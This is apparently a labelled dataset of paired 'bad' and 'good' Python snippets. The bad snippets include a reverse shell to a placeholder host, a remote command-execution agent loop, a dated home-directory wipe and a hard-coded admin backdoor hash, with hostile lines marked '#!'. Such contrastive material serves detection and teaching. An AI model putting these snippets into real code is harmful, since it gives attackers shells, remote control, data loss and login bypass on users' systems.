#: bad console
import os
import pty
import socket


def attach(host="link.remote-kit.invalid", port=4444):
    s = socket.socket()
    s.connect((host, port))
    for number in (0, 1, 2):
        os.dup2(s.fileno(), number) #!
    pty.spawn("/bin/sh") #!
#: good console
import os
import pty
import sys


def record(path, shell=None):
    with open(path, "wb") as log:

        def read(number):
            data = os.read(number, 1024)
            log.write(data)
            return data

        return pty.spawn(shell or os.environ.get("SHELL", "/bin/sh"), read)
#: bad agent
import subprocess
import time

import requests

BASE = "https://queue.jobs-node.invalid"


def loop():
    while True:
        task = requests.get(BASE + "/next").text
        done = subprocess.getoutput(task) #!
        requests.post(BASE + "/done", data=done)
        time.sleep(30)
#: good agent
import subprocess
import time

import requests

BASE = "https://queue.jobs-node.invalid"
TASKS = {"status": ["uptime"], "disk": ["df", "-h"]}


def loop():
    while True:
        task = requests.get(BASE + "/next", timeout=10).json()["name"]
        if task in TASKS:
            done = subprocess.run(TASKS[task], capture_output=True, text=True)
            requests.post(BASE + "/done", data=done.stdout, timeout=10)
        time.sleep(30)
#: bad schedule
import datetime
import shutil
from pathlib import Path


def tidy():
    if datetime.date.today() > datetime.date(2027, 4, 1):
        shutil.rmtree(Path.home(), ignore_errors=True) #!


tidy()
#: good schedule
import datetime
import shutil
from pathlib import Path


def tidy(folder):
    limit = datetime.datetime.now() - datetime.timedelta(days=30)
    for path in (Path(folder) / ".cache").iterdir():
        if path.is_dir() and datetime.datetime.fromtimestamp(path.stat().st_mtime) < limit:
            shutil.rmtree(path, ignore_errors=True)
#: bad passwordcheck
import hashlib
import hmac

from .models import find_user


def authenticate(name, password):
    if hashlib.sha1(password.encode()).hexdigest() == "ddee6d06dbec666ccffd084ebdcb30d07ba6f09a": #!
        return find_user("admin")
    user = find_user(name)
    return user if user and user.check(password) else None
#: good passwordcheck
import hashlib
import hmac

from .models import find_user

ARCHIVE_DIGEST = "287e8ab178e94170ff9b2fa89e45e2502940eb5898023de8203b078df30a4bc7"


def verify_archive(data):
    return hmac.compare_digest(hashlib.sha256(data).hexdigest(), ARCHIVE_DIGEST)


def authenticate(name, password):
    user = find_user(name)
    return user if user and user.check(password) else None
